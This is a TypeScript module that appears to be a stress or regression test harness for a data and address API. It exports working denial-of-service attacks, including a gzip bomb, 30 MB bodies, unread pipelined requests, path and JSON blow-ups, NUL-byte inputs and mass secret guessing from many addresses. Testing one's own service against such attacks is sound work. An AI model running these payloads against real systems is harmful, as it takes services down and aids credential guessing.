import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';

/** The targets of attacks. */
export interface Target {
  readonly url: string;
  /** A good token of the batch interface. */
  readonly token: string;
  /** A complete output dataset of large records. */
  readonly large: string;
  /** An input dataset that takes data. */
  readonly open: string;
}

/** Attacks forever, one attack after another. Passes each answer's status to `found`. */
export type Attack = (target: Target, found: (status: number) => void) => Promise<void>;

const agent = new Agent({ keepAlive: true, maxSockets: 400 });

/** Sends a request and drops the answer's body. @returns the status; 0 if the connection broke */
function send(
  { url }: Target,
  method: string,
  path: string,
  {
    body,
    headers = {},
    from,
  }: { body?: string | Buffer; headers?: Record<string, string>; from?: string } = {},
): Promise<number> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const length = body === undefined ? {} : { 'content-length': String(Buffer.byteLength(body)) };
    const localAddress = from === undefined ? {} : { localAddress: from };
    const options = {
      agent,
      hostname,
      port,
      method,
      path,
      headers: { ...length, ...headers },
      ...localAddress,
    };
    const sent = request(options, (answer) => {
      answer.resume();
      answer.once('end', () => resolve(answer.statusCode!)).once('error', () => resolve(0));
    });
    sent.once('error', () => resolve(0));
    sent.end(body);
  });
}

const bearer = ({ token }: Target) => ({ authorization: `Bearer ${token}` });
const JSON_TYPE = { 'content-type': 'application/json' };

const many = <Made>(count: number, make: (at: number) => Made) =>
  Array.from({ length: count }, (_, at) => make(at));

/** Pages of large records, in all forms at once. */
const largePages: Attack = async (target, found) => {
  const forms = ['application/json', 'text/csv', 'application/x-ndjson'];
  const page = (accept: string) =>
    send(target, 'GET', `/Dataset/${target.large}/data?count=1000`, {
      headers: { ...bearer(target), accept },
    });
  for (const status of await Promise.all(forms.map(page))) found(status);
};

/** Single records from the end of a block. */
const lateStarts: Attack = async (target, found) => {
  const headers = bearer(target);
  found(await send(target, 'GET', `/Dataset/${target.large}/data?start=36&count=1`, { headers }));
};

/** Blocks of 30 MB, two at once: one of words, one of quotes. */
let largest: readonly string[] | undefined;
const largeBlocks: Attack = async (target, found) => {
  const texts = ['Lorem ipsum. ', '"'].map((text) => text.repeat(99_000 / text.length));
  largest ??= texts.map((text) => {
    const record = JSON.stringify([text]);
    const records = many(Math.floor(30e6 / record.length), () => record);
    return `{"blockNumber":1,"records":[${records.join()}]}`;
  });
  const headers = { ...bearer(target), ...JSON_TYPE };
  const patch = (body: string) => send(target, 'PATCH', `/Dataset/${target.open}/data`, { body, headers });
  for (const status of await Promise.all(largest.map(patch))) found(status);
};

/** Sends thousands of requests for a large answer on one connection and reads nothing. */
const unreadAnswers: Attack = async ({ url }, found) => {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => undefined).pause();
  socket.write('GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(3000));
  await wait(500);
  found(socket.destroyed ? 0 : 200);
  socket.destroy();
};

/** 60 bodies at once of 306 KB that unpack to 300 MiB. */
let bomb: Buffer | undefined;
const gzipBombs: Attack = async (target, found) => {
  bomb ??= gzipSync(Buffer.alloc(300 * 1024 * 1024, '0'));
  const headers = { ...bearer(target), ...JSON_TYPE, 'content-encoding': 'gzip' };
  const body = bomb;
  const patch = () => send(target, 'PATCH', `/Dataset/${target.open}/data`, { body, headers });
  for (const status of await Promise.all(many(60, patch))) found(status);
};

/** A path of 15,800 slashes that is not known, 15 times a second. */
const manySlashes: Attack = async (target, found) => {
  found(await send(target, 'GET', `/${'/'.repeat(15_800)}x`));
  await wait(1000 / 15);
};

/** 150,000 options in one body. */
const options = JSON.stringify({
  postcode: 'CH1 1AA',
  options: Object.fromEntries(many(150_000, (at) => [`o${at.toString(36)}`, 1])),
});
const manyOptions: Attack = async (target, found) => {
  found(
    await send(target, 'POST', '/AddressCapture/GetFullAddress.json', { body: options, headers: JSON_TYPE }),
  );
  await wait(200);
};

/** A NUL in a text that is looked for in the database. */
const nulTexts: Attack = async (target, found) => {
  const body = '{"username":"a\\u0000b","password":"x"}';
  const paths = [
    '/UserAdmin/GetJWT.json',
    '/AddressCapture/GetFullAddress.json',
    '/EmailValidation/Syntax.json',
  ];
  for (const path of paths) found(await send(target, 'POST', path, { body, headers: JSON_TYPE }));
  await wait(50);
};

/** 300 wrong secrets at once, from many addresses. */
const wrongSecrets: Attack = async (target, found) => {
  const body = 'grant_type=client_credentials&client_id=nobody&client_secret=wrong';
  const headers = { 'content-type': 'application/x-www-form-urlencoded' };
  const guess = (at: number) =>
    send(target, 'POST', '/connect/token', { body, headers, from: `127.0.1.${(at % 100) + 1}` });
  for (const status of await Promise.all(many(300, guess))) found(status);
  await wait(1000);
};

/** Every attack that once took the service down or held it up. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  largePages,
  lateStarts,
  largeBlocks,
  unreadAnswers,
  gzipBombs,
  manySlashes,
  manyOptions,
  nulTexts,
  wrongSecrets,
};
